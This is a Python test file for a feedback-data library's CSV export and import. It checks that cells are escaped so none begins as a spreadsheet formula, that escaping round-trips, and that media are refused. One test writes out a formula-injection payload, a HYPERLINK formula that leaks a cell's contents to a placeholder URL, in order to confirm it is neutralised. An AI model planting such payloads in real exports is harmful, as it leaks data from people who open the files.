"""No cell of an exported table begins as a formula does, and every cell comes back."""

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from said import texts

from harken.feedback.exchange.door import export_file, find_place, import_file
from harken.feedback.exchange.formats.table import escape, unescape
from harken.feedback.exchange.tables import DataError
from harken.feedback.store import FeedbackStore
from harken.types import Answer, Completion, Edit, Image, Message, Prompt, Rating, Text


@given(start=st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "\n", "'", "'=", "''"]), rest=texts)
def test_cells_come_back_and_are_no_formulas(start: str, rest: str):
    cell = start + rest
    assert unescape(escape(cell)) == cell
    assert not escape(cell).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_nothing_in_the_file_begins_as_a_formula(tmp_path: Path):
    place = find_place(str(tmp_path))
    evil = '=HYPERLINK("http://example.org?leak="&A1)'
    with FeedbackStore(place.store) as store:
        store.add_prompts([Prompt("=p", (Message("user", (Text(f"+{evil}"),)),))])
        store.add_completions([Completion("@c", "=p", f"-{evil}", "\t=policy")])
        store.add(Answer("=k", "@ada", "human", Edit("=p", "@c", evil)))
        store.add(Answer("-k", "@ada", "human", Rating("=p", "@c", 3, 5, "\r=wit")))
    file, _ = export_file("table", place, tmp_path / "out.csv")
    with file.open(newline="", encoding="utf-8") as opened:
        cells = [cell for row in csv.reader(opened) for cell in row]
    assert any(evil in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r", "\n"}]
    other = find_place(str(tmp_path / "other"))
    assert import_file("table", file, other).new[2] == 2


def test_media_that_a_table_cannot_hold_are_counted_and_asked_for(tmp_path: Path):
    place = find_place(str(tmp_path))
    with FeedbackStore(place.store) as store:
        store.add_prompts([Prompt("p", (Message("user", (Image("0" * 64),)),))])
        store.add_completions([Completion("c", "p", "one", "model")])
        store.add(Answer("k", "ada", "human", Rating("p", "c", 3)))
    file, tally = export_file("table", place, tmp_path / "out.csv")
    assert tally.left == {"media (named by their hash)": 1}
    with pytest.raises(DataError, match="a table holds no media: copy the blobs there first"):
        import_file("table", file, find_place(str(tmp_path / "other")))
